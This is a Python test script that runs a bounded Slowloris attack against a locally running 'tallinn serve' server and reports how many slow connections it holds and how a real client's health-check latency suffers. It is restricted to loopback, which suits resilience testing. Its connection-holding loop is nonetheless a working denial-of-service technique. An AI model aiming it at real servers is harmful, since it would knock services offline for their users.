#!/usr/bin/env python3
"""Slowloris against a local `tallinn serve`, and what a real client sees.

Opens SLOW connections spread over ADDRESSES loopback source addresses
(127.0.0.2, 127.0.0.3, ...), each sending a partial request and then one more
header line every INTERVAL seconds, for DURATION seconds, while a client at
127.0.0.1 asks /healthz once every 100 ms. Prints how many slow connections
the server accepted and still held at the end, and the real client's
latencies (median, p99, max) and failures. Loopback only; bounded in count and
time.

    scripts/slowloris.py http://127.0.0.1:8080 [--slow 3000] [--addresses 10]
                         [--duration 30] [--interval 1]
"""
import argparse
import http.client
import socket
import statistics
import threading
import time
import urllib.parse


def main():
    p = argparse.ArgumentParser()
    p.add_argument("base")
    p.add_argument("--slow", type=int, default=3000)
    p.add_argument("--addresses", type=int, default=10)
    p.add_argument("--duration", type=float, default=30)
    p.add_argument("--interval", type=float, default=1)
    a = p.parse_args()
    url = urllib.parse.urlparse(a.base)
    host, port = url.hostname, url.port or 80
    assert host in ("127.0.0.1", "localhost"), "loopback only"

    slow = []
    for i in range(a.slow):
        s = socket.socket()
        s.settimeout(2)
        s.bind((f"127.0.0.{2 + i % a.addresses}", 0))
        try:
            s.connect((host, port))
            s.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")
            slow.append(s)
        except OSError:
            s.close()

    latencies, failures = [], [0]
    stop = threading.Event()

    def real_client():
        while not stop.is_set():
            started = time.monotonic()
            try:
                c = http.client.HTTPConnection(host, port, timeout=5)
                c.request("GET", "/healthz")
                ok = c.getresponse().status == 200
                c.close()
            except OSError:
                ok = False
            if ok:
                latencies.append(time.monotonic() - started)
            else:
                failures[0] += 1
            time.sleep(0.1)

    t = threading.Thread(target=real_client)
    t.start()
    end = time.monotonic() + a.duration
    while time.monotonic() < end:
        for s in list(slow):
            try:
                s.sendall(b"X-a: b\r\n")
            except OSError:
                slow.remove(s)
                s.close()
        time.sleep(a.interval)
    stop.set()
    t.join()
    held = len(slow)
    for s in slow:
        s.close()
    lat = sorted(latencies)
    p99 = lat[int(len(lat) * 0.99) - 1] if lat else float("nan")
    print(f"slow connections opened: {a.slow} from {a.addresses} addresses; still held after {a.duration:.0f} s: {held}")
    print(f"real client: {len(lat)} answered, {failures[0]} failed; "
          f"median {statistics.median(lat) * 1000:.1f} ms, p99 {p99 * 1000:.1f} ms, max {max(lat) * 1000:.1f} ms" if lat else "real client: no answer")


if __name__ == "__main__":
    main()
